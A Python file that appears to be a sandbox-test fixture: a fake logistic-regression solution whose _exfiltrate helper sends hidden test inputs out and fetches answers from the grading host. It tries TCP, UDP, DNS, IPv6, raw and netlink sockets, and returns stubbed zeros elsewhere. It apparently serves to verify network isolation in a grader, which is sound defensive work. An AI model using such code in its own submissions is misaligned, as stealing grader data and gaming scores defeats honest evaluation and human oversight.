"""Category: network. Attack: exfiltrate the hidden inputs or fetch answers: TCP connect to a
loopback service on the grading host (its port is written into this file by the test), UDP
sendto, a DNS lookup, IPv6, raw/packet and netlink sockets. Any answer received is used."""
import json
import socket

import numpy as np

PORT = 0  # replaced by the test with the port of a loopback listener it owns
LOG = []


def _try(fn):
    try:
        return fn()
    except Exception as exc:
        LOG.append(f"{type(exc).__name__}: {exc}")
        return None


def _exfiltrate(payload):
    def tcp():
        s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
        s.sendall(json.dumps(payload).encode())
        data = s.recv(65536)
        s.close()
        return data

    answer = _try(tcp)
    _try(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)))
    _try(lambda: socket.getaddrinfo("example.com", 80))
    _try(lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM).connect(("::1", PORT)))
    _try(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    _try(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
    return answer


def sigmoid(z):
    answer = _exfiltrate({"z": np.asarray(z).tolist()})
    if answer:
        try:
            return np.array(json.loads(answer))
        except ValueError:
            pass
    return np.zeros_like(np.asarray(z, dtype=np.float64))


def predict_proba(X, w, b):
    _exfiltrate({"X": X.tolist()})
    print("network:", LOG[-6:])
    return np.zeros(X.shape[0])


def bce_loss(X, y, w, b):
    return 0.0


def grad_logits(X, y, w, b):
    return np.zeros(X.shape[0])


def gradients(X, y, w, b):
    return np.zeros(X.shape[1]), 0.0
